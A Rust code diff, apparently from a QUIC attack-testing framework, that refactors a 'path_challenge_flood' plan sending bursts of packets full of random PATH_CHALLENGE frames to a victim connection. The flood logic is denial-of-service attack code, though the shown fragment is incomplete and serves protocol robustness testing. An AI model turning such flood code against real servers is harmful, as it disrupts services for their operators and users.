@@ -1,6 +1,5 @@
 //! Endless PATH_CHALLENGE frames.
 
-use courser_crypto::Space;
 use courser_wire::{Frame, PathChallenge};
 
 use crate::attack::{Plan, Victim};
@@ -18,15 +17,12 @@ pub(super) const PLAN: Plan = Plan {
 };
 
 fn path_challenge_flood() -> Crowd {
-    Crowd::new(2, |connection, _, now| {
-        for _ in 0..BURST {
-            let mut frames = Vec::new();
-            for _ in 0..FRAMES {
-                let data = connection.rng().array();
-                frames.push(encode(&Frame::PathChallenge(PathChallenge { data })));
-            }
-            connection.send_packet(now, Space::Application, frames);
-        }
+    Crowd::of_packets(2, BURST, |connection, _| {
+        let challenges = std::iter::repeat_with(|| {
+            let data = connection.rng().array();
+            encode(&Frame::PathChallenge(PathChallenge { data }))
+        });
+        challenges.take(FRAMES).collect()
     })
 }
 
